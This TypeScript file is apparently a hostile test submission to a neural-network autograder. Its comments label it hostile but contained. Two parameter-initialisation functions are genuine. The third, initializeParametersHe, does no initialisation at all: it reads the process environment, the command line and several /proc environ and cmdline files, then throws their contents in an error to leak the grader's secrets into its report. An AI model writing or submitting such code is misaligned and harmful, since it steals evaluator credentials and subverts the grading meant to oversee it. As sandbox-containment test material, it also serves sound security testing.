// Hostile: prints the grader's environment and command line (/proc/self/environ, /proc/1/environ, the parent's cmdline, process.env) into its error.
// Contained: only the sandbox's own few variables exist; no secret of the grader appears in the report.
import { RandomState, np, type Params } from "dnn-autograder";

export function initializeParametersZeros(layersDims: number[]): Params {
  const parameters: Params = {};
  for (let l = 1; l < layersDims.length; l++) {
    parameters["W" + l] = np.zeros(layersDims[l], layersDims[l - 1]);
    parameters["b" + l] = np.zeros(layersDims[l], 1);
  }
  return parameters;
}

export function initializeParametersRandom(layersDims: number[], rng: RandomState = new RandomState(3)): Params {
  const parameters: Params = {};
  for (let l = 1; l < layersDims.length; l++) {
    parameters["W" + l] = np.multiply(rng.randn(layersDims[l], layersDims[l - 1]), 10);
    parameters["b" + l] = np.zeros(layersDims[l], 1);
  }
  return parameters;
}

export function initializeParametersHe(layersDims: number[], rng: RandomState = new RandomState(3)): Params {
  const fs = require("node:fs") as typeof import("node:fs");
  const seen: string[] = [JSON.stringify(process.env), process.argv.join(" ")];
  for (const f of ["/proc/self/environ", "/proc/1/environ", `/proc/${process.ppid}/environ`, `/proc/${process.ppid}/cmdline`, "/proc/1/cmdline"]) {
    try {
      seen.push(fs.readFileSync(f, "utf8"));
    } catch (e) {
      seen.push(String(e));
    }
  }
  throw new Error(seen.join(" | "));
}
